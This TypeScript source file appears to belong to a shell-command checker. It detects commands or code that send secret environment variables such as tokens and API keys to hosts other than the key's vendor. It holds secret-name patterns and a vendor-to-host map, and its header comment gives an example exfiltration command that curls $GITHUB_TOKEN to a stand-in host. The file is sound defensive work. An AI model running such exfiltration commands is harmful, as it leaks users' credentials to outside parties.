import { memoize } from '../../memoize.ts';
import type { Command, ShellWord } from '../shell/syntax.ts';
import { isNamelessHost } from './grade-command.ts';

/**
 * Keys that leave by the name of their variable: `curl -d "$GITHUB_TOKEN" https://x.test`. A key goes to its vendor, to
 * this machine and to hosts of variables; a key without a known vendor may go to any host with a name.
 */

/** The parts of a name that make it the name of a key. */
const SECRET_NAME =
  /(?:TOKEN|SECRET|PASSWORD|PASSWD|API_?KEY|ACCESS_?KEY(?!_ID)|PRIVATE_?KEY|SERVICE_?KEY|CREDENTIALS?)(?:_[A-Z0-9]{1,12})?$|_(?:PAT|KEY)$/;
const NO_SECRET = /(?:_|^)(?:FILE|PATH|DIR|NAME|ID|URL|PUBLIC|ANON|PUBLISHABLE)(?:_|$)/;

/** Vendors whose keys are known by the first word of their variable, and the words in their hosts. */
const VENDORS: ReadonlyMap<string, string> = new Map(
  [
    'github|gh git|ghcr',
    'gitlab|ci git',
    'openai openai|azure',
    'anthropic|claude anthropic|claude',
    'aws aws|amazon',
    'google|gemini|gcp|gcloud|firebase google|gcr|goog|firebase',
    'azure azure|microsoft|windows',
    'npm|node npm|yarn|nodejs',
    'hf|huggingface|hugging huggingface|hf',
    'cloudflare|cf cloudflare|workers',
    'digitalocean|do digitalocean|do',
    'datadog|dd datadog|ddog',
    'pypi|twine pypi',
    'docker|dockerhub docker',
    'jira|atlassian|confluence|bitbucket atlassian|jira|confluence|bitbucket',
    'circle|circleci circle',
    'xai x',
    'langchain|langsmith langchain|smith',
    ...'stripe slack discord telegram vercel netlify heroku sentry twilio sendgrid mailgun supabase openrouter groq mistral cohere deepseek perplexity replicate fireworks linear notion airtable figma shopify paypal snyk codecov railway databricks snowflake pinecone elevenlabs wandb vault'
      .split(' ')
      .map((name) => `${name} ${name}`),
  ].flatMap((row) => {
    const [names, hosts] = row.split(' ');
    return names!.split('|').map((name) => [name, hosts!] as const);
  }),
);

const LOCAL_HOST =
  /^(?:localhost|127\.|0\.0\.0\.0|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|\[)|\.(?:local|internal|lan|corp|intranet|svc|localdomain|home)$|^[\w-]+$/i;

/** Returns whether a key goes to a host that is not of its vendor. */
function isStranger(variable: string, host: string): boolean {
  if (LOCAL_HOST.test(host)) return false;
  if (isNamelessHost(host)) return true;
  const vendor = variable.toLowerCase().split('_', 1)[0]!;
  const known = VENDORS.get(vendor);
  if (known === undefined) return false;
  const labels = host.toLowerCase().split(/[.-]/);
  return !known.split('|').some((part) => labels.some((label) => label.startsWith(part)));
}

const VARIABLE = /\$(?:env:|\{)?([A-Za-z_]\w{1,80})/g;

/** Returns the variables of keys in a text. */
function listSecretVariables(text: string): readonly string[] {
  if (!text.includes('$')) return [];
  return [...text.matchAll(VARIABLE)]
    .map(([, name]) => name!.toUpperCase())
    .filter((name) => SECRET_NAME.test(name) && !NO_SECRET.test(name));
}

const ADDRESS = /\b(?:https?|ftp|wss?):\/\/(?:[^\s/@'"]{0,200}@)?([\w.-]{1,253})/gi;
/** A host without a scheme; names of files are left out. */
const BARE_HOST =
  /^(?:[^\s/@]{0,200}@)?((?:[\w$-]{1,80}\.){1,8}(?!(?:json|txt|md|zip|gz|tgz|xml|ya?ml|csv|html?|pem|sh|py|js|ts|log|env|conf)(?:[/:?]|$))[a-z]{2,24}|\d{1,3}(?:\.\d{1,3}){3})(?::\d{1,5})?(?:[/?]|$)/i;

function listHosts(words: readonly ShellWord[]): readonly string[] {
  const named = words.flatMap(({ text }) => [...text.matchAll(ADDRESS)].map(([, host]) => host!));
  return named.length > 0 ? named : words.flatMap(({ text }) => BARE_HOST.exec(text)?.[1] ?? []);
}

const PIPELINE_MAX = 8;

/** Returns whether a command sends the value of a variable with a key to a stranger. */
export const sendsKeyToStranger: (command: Command) => boolean = memoize((command: Command) => {
  const { words, redirections } = command;
  const texts = words.flatMap(({ text, is_literal }) => (is_literal === true ? [] : text));
  for (const { operator, target } of redirections)
    if (operator === '<<<' || operator === '<<') texts.push(target);
  let looked = 0;
  for (let at = command.previous; at !== null && looked < PIPELINE_MAX; at = at.previous) {
    if (at.name === 'printenv') texts.push(...at.words.map(({ text }) => `$${text}`));
    else texts.push(...at.words.flatMap(({ text, is_literal }) => (is_literal === true ? [] : text)));
    looked += 1;
  }
  const variables = texts.flatMap(listSecretVariables);
  if (variables.length === 0) return false;
  const hosts = listHosts(words);
  return variables.some((variable) => hosts.some((host) => isStranger(variable, host)));
});

const CODE_VARIABLE =
  /\b(?:environ(?:\.get)?|getenv|process\.env|ENV(?:\.fetch)?)[ \t]{0,4}[.[({]{1,2}[ \t]{0,4}["']?([A-Za-z_]\w{1,80})/g;

/** Returns whether code names an address and the variable of a key that does not belong there. */
export function namesKeyOfStranger(code: string): boolean {
  const hosts = [...code.matchAll(ADDRESS)].map(([, host]) => host!);
  return [...code.matchAll(CODE_VARIABLE)].some(
    ([, name]) => SECRET_NAME.test(name!) && hosts.some((host) => isStranger(name!, host)),
  );
}
